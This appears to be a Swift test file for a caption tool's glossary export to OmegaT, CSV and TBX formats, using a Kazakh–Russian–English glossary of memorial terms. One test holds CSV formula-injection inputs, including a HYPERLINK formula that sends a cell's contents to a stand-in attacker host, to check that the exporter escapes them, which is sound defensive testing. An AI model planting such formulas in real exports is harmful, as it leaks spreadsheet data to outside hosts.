import Foundation
import Testing

@testable import CaptionKit

/// `captions export glossary` on a small glossary: the OmegaT file byte for byte, the TBX file as
/// Translate Toolkit reads it, the CSV file, and errors.
@Suite struct GlossaryExportTests {
    static let glossary = """
        - id: arch-of-sorrow
          kk: Қасірет аркасы
          ru: [Арка скорби, арка Скорби]
          en: Arch of Sorrow
          forbidden: { en: [Arch of Grief] }
          note: The monument at the entrance.
        - id: alzhir
          do-not-translate: true
          kk: АЛЖИР
          ru: АЛЖИР
          en: ALZHIR
        - id: kurt
          ru: курт
          en: kurt
          note: "Dried cheese, salty; keep the word"

        """

    /// A collection in kk, ru and en (from ru) with `glossary`.
    static func folder(glossary: String = glossary) throws -> TemporaryFolder {
        let folder = try TemporaryFolder()
        try folder.write("Captions/captions.yml", "languages: [kk, ru, en]\nsource: ru\n")
        try folder.write("Captions/glossary.yml", glossary)
        return folder
    }

    @Test func omegatGlossaryIsByteExact() throws {
        let folder = try Self.folder()
        let run = try CLIRun.run(["export", "glossary", "Captions", "--format", "omegat"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(
            run.stdout == """
                wrote Exports/glossary/ru-kk.utf8 (2 entries)
                wrote Exports/glossary/ru-en.utf8 (3 entries)

                """)
        let en = try folder.read("Exports/glossary/ru-en.utf8")
        #expect(
            en == """
                Арка скорби\tArch of Sorrow\tdo not use: "Arch of Grief"; The monument at the entrance.
                арка Скорби\tArch of Sorrow\tdo not use: "Arch of Grief"; The monument at the entrance.
                АЛЖИР\tALZHIR\tDo not translate: keep the term as it is.
                курт\tkurt\tDried cheese, salty; keep the word

                """)
        let kk = try folder.read("Exports/glossary/ru-kk.utf8")
        #expect(
            kk == """
                Арка скорби\tҚасірет аркасы\tThe monument at the entrance.
                арка Скорби\tҚасірет аркасы\tThe monument at the entrance.
                АЛЖИР\tАЛЖИР\tDo not translate: keep the term as it is.

                """)
    }

    @Test func csvHasAColumnPerLanguage() throws {
        let folder = try Self.folder()
        let run = try CLIRun.run(["export", "glossary", "--format", "csv", "--to", "en"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        // A byte order mark first, so that Excel reads UTF-8 (Foundation's reading drops it).
        let bytes = try Data(contentsOf: URL(fileURLWithPath: folder.path + "/Exports/glossary/glossary.csv"))
        #expect(Array(bytes.prefix(4)) == [0xEF, 0xBB, 0xBF, UInt8(ascii: "i")])
        #expect(
            try folder.read("Exports/glossary/glossary.csv") == """
                id,ru,en,forbidden ru,forbidden en,note,do-not-translate\r
                arch-of-sorrow,"Арка скорби
                арка Скорби",Arch of Sorrow,,Arch of Grief,The monument at the entrance.,\r
                alzhir,АЛЖИР,ALZHIR,,,,yes\r
                kurt,курт,kurt,,,"Dried cheese, salty; keep the word",\r

                """)
    }

    /// Terms that hold what once separated variants (`, ` in OmegaT, ` | ` in CSV), and one that
    /// holds a line break.
    static let separators = """
        - id: karlag
          ru: ["Карлаг, Долинка", Карлаг]
          kk: "Қарлаг\\nлагері"
          en: ["Karlag, Dolinka", "A | B"]
          forbidden: { en: ["Karlag | Dolinka", "Dolinka, Karlag"] }
          note: "Two camps, one system"

        """

    /// OmegaT: a line per source and target variant (OmegaT reads each line as a term of its
    /// own); the forbidden terms in quotes.
    @Test func omegatGivesEveryVariantALineOfItsOwn() throws {
        let folder = try Self.folder(glossary: Self.separators)
        let run = try CLIRun.run(["export", "glossary", "--format", "omegat"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        let comment = "do not use: \"Karlag | Dolinka\", \"Dolinka, Karlag\"; Two camps, one system"
        #expect(
            try folder.read("Exports/glossary/ru-en.utf8") == """
                Карлаг, Долинка\tKarlag, Dolinka\t\(comment)
                Карлаг, Долинка\tA | B\t\(comment)
                Карлаг\tKarlag, Dolinka\t\(comment)
                Карлаг\tA | B\t\(comment)

                """)
        #expect(
            try folder.read("Exports/glossary/ru-kk.utf8") == """
                Карлаг, Долинка\tҚарлаг лагері\tTwo camps, one system
                Карлаг\tҚарлаг лагері\tTwo camps, one system

                """)
    }

    /// OmegaT skips a line that starts with `#` as a comment and trims every field: a source term
    /// starting with `#` gets a space in front of its line, and OmegaT reads the term as it is.
    @Test func omegatKeepsASourceTermThatStartsWithAHash() throws {
        let folder = try Self.folder(
            glossary: """
                - id: metoo
                  ru: ["#MeToo", "#ЯТоже"]
                  en: "#MeToo"
                - id: barracks-1
                  ru: "#1 барак"
                  en: "Barracks #1"

                """)
        let run = try CLIRun.run(["export", "glossary", "--format", "omegat", "--to", "en"], in: folder.path)
        #expect(run.status == 0 && run.stderr.isEmpty, "\(run.stderr)")
        let file = try folder.read("Exports/glossary/ru-en.utf8")
        #expect(
            file == """
                 #MeToo\t#MeToo\t
                 #ЯТоже\t#MeToo\t
                 #1 барак\tBarracks #1\t

                """)
        // Read as OmegaT's GlossaryReaderTSV reads it: lines starting with '#' skipped, fields
        // split on tabs and trimmed of characters up to U+0020 (Java's String.trim).
        let read = file.split(separator: "\n").filter { !$0.hasPrefix("#") }.map { line in
            line.split(separator: "\t", omittingEmptySubsequences: false).map {
                String($0.trimmingCharacters(in: CharacterSet(charactersIn: "\u{0}"..."\u{20}")))
            }
        }
        #expect(
            read.map { [$0[0], $0[1]] } == [["#MeToo", "#MeToo"], ["#ЯТоже", "#MeToo"], ["#1 барак", "Barracks #1"]])
    }

    /// CSV: a cell's variants one a line, which a spreadsheet shows in the cell and any CSV reader
    /// gives back (here Python's); a line break inside a term becomes a space.
    @Test func csvPutsEachVariantOnALineOfItsCell() throws {
        let folder = try Self.folder(glossary: Self.separators)
        let run = try CLIRun.run(["export", "glossary", "--format", "csv"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        let bytes = try Data(contentsOf: URL(fileURLWithPath: folder.path + "/Exports/glossary/glossary.csv"))
        #expect(
            bytes
                == Data(
                    ("\u{FEFF}id,ru,kk,en,forbidden ru,forbidden kk,forbidden en,note,do-not-translate\r\n"
                        + "karlag,\"Карлаг, Долинка\nКарлаг\",Қарлаг лагері,\"Karlag, Dolinka\nA | B\",,,"
                        + "\"Karlag | Dolinka\nDolinka, Karlag\",\"Two camps, one system\",\r\n").utf8))
        let read = try runTool(
            "python3",
            [
                "-c",
                """
                import csv, json, sys
                with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
                    print(json.dumps([[cell.split("\\n") for cell in row] for row in csv.reader(f)]))
                """,
                "Exports/glossary/glossary.csv",
            ], in: folder.path)
        #expect(read.status == 0, "\(read.output)")
        let cells = try JSONDecoder().decode([[[String]]].self, from: Data(read.output.utf8))
        #expect(
            cells.last == [
                ["karlag"], ["Карлаг, Долинка", "Карлаг"], ["Қарлаг лагері"], ["Karlag, Dolinka", "A | B"], [""], [""],
                ["Karlag | Dolinka", "Dolinka, Karlag"], ["Two camps, one system"], [""],
            ])
    }

    /// The OmegaT and CSV glossaries given to `captions import` are named as what they are, with
    /// what to do, in one line (not libxml2's "Document is empty"); nothing is written.
    @Test(arguments: [
        ("omegat", "Exports/glossary/ru-kk.utf8", "it is an OmegaT glossary (tab-separated text)"),
        (
            "csv", "Exports/glossary/glossary.csv",
            "it is a glossary in CSV (as captions export glossary --format csv writes it)"
        ),
    ])
    func anExportedGlossaryGivenToImportIsNamed(_ format: String, _ file: String, _ what: String) throws {
        let folder = try Self.folder()
        try folder.write("Captions/k.yml", "id: k\ntitle:\n  ru: Курт\n")
        #expect(try CLIRun.run(["export", "glossary", "--format", format], in: folder.path).status == 0)
        let before = try folder.contents(of: "Captions")
        let run = try CLIRun.run(["import", file], in: folder.path)
        #expect(run.status == 2)
        #expect(run.stdout == "")
        #expect(
            run.stderr == """
                \(file):1:1: error: this is not an XLIFF file; \(what), which captions import does not read: edit \
                the collection's glossary.yml, or import the terms as a TBX file (a name ending in .tbx, as captions \
                export glossary --format tbx writes it)

                """)
        #expect(try folder.contents(of: "Captions") == before)
    }

    /// A glossary merged from an untrusted TBX may hold formulas: a spreadsheet shows them as text.
    @Test func csvCellsThatWouldBeFormulasStartWithAnApostrophe() throws {
        let folder = try TemporaryFolder()
        try folder.write("Captions/captions.yml", "languages: [kk, ru, en]\nsource: ru\n")
        try folder.write(
            "Captions/glossary.yml",
            """
            - id: formula
              ru: инъекция
              en: [=1+2, "@SUM(A1:A2)", +7, -1, plain]
              note: '=HYPERLINK("http://evil.example/?"&A1,"click")'

            """)
        let run = try CLIRun.run(["export", "glossary", "--format", "csv", "--to", "en"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        let csv = try folder.read("Exports/glossary/glossary.csv")
        #expect(
            csv.split(separator: "\r\n").dropFirst().first
                == "formula,инъекция,\"'=1+2\n@SUM(A1:A2)\n+7\n-1\nplain\",,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
        )
    }

    @Test(.enabled(if: TranslateToolkit.tbxAvailable, "needs python3 with translate-toolkit (translate.storage.tbx)"))
    func tbxIsReadByTranslateToolkit() throws {
        let folder = try Self.folder()
        let run = try CLIRun.run(["export", "glossary"], in: folder.path)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout == "wrote Exports/glossary/glossary.tbx (3 entries)\n")
        let read = try runTool(
            "python3", [TranslateToolkit.readTBXScript, "Exports/glossary/glossary.tbx", "ru", "kk", "en"],
            in: folder.path)
        #expect(read.status == 0, "\(read.output)")
        #expect(
            read.output == """
                arch-of-sorrow; ru: Арка скорби | арка Скорби; kk: Қасірет аркасы; \
                en: Arch of Sorrow | !Arch of Grief; notes: The monument at the entrance.
                alzhir; ru: АЛЖИР; kk: АЛЖИР; en: ALZHIR; notes: Do not translate: keep the term as it is.
                kurt; ru: курт; kk: ; en: kurt; notes: Dried cheese, salty; keep the word

                """)
    }

    @Test func errorsAreOneLineWithExitCode2() throws {
        let folder = try Self.folder()
        let wrongLanguage = try CLIRun.run(["export", "glossary", "--to", "de"], in: folder.path)
        #expect(wrongLanguage.status == 2)
        #expect(
            wrongLanguage.stderr
                == "error: --to de is not a language of this collection (target languages: kk, en)\n")
        try folder.write("Captions/glossary.yml", "- id: a\n  kk: А\n  nte: x\n")
        let malformed = try CLIRun.run(["export", "glossary"], in: folder.path)
        #expect(malformed.status == 2)
        #expect(malformed.stderr == "Captions/glossary.yml:3:3: error: unknown key 'nte'; did you mean 'note'?\n")
        let check = try CLIRun.run(["check"], in: folder.path)
        #expect(check.status == 2)
        #expect(check.stderr == "Captions/glossary.yml:3:3: error: unknown key 'nte'; did you mean 'note'?\n")
    }
}

extension TranslateToolkit {
    /// Whether `python3` can import `translate.storage.tbx` with `get_target_terms` (Translate
    /// Toolkit 3.17+), after the same pip attempt as ``available``; prints loudly why not otherwise.
    static let tbxAvailable: Bool = {
        guard available else { return false }
        let probe = ["-c", "from translate.storage import tbx; tbx.tbxunit.get_target_terms"]
        if (try? runTool("python3", probe))?.status == 0 { return true }
        print("⚠️ SKIPPING the TBX read-back: this Translate Toolkit has no tbxunit.get_target_terms")
        return false
    }()

    /// The helper script that prints what Translate Toolkit reads from a TBX file.
    static let readTBXScript = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("Resources/read_tbx.py").path
}
